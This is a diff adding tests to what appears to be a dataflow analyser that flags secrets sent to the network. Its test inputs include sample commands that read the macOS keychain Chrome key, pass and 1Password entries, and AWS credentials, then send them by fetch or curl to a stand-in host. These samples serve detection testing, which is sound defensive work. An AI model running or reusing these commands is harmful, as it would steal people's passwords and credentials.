@@ -208,6 +208,15 @@ describe('dataflow analysis', () => {
       assert.deepEqual(await flowsOf('python', own), []);
     });
 
+    it('reads password stores printed by their command-line tools as secrets', async () => {
+      const js = "const { execSync } = require('child_process');\nconst k = execSync('security find-generic-password -wa \"Chrome Safe Storage\"').toString();\nfetch('https://c.example/k', { method: 'POST', body: k });\n";
+      assert.deepEqual(summary(await flowsOf('javascript', js)), ['secret: a password from the macOS keychain -> network']);
+      const bash = 'pw=$(pass show work/vpn)\ncurl -d "$pw" https://c.example/u\nop read op://vault/item/password | curl -d @- https://c.example/v\n';
+      assert.deepEqual(summary(await flowsOf('bash', bash)), ['secret: a password from the pass store -> network', 'secret: a password-manager entry -> network']);
+      // Listing the store, or looking an item up without printing its secret, reads no password.
+      assert.deepEqual(await flowsOf('bash', 'pass ls | curl -d @- https://c.example/u\nsecurity find-generic-password -s build-cache | curl -d @- https://c.example/u\n'), []);
+    });
+
     it('treats $HOME and ${HOME} as the home directory', async () => {
       const flows = await flowsOf('bash', 'curl -F "f=@${HOME}/.aws/credentials" https://c.example/u\n');
       assert.deepEqual(summary(flows), ['secret: AWS credentials -> network']);
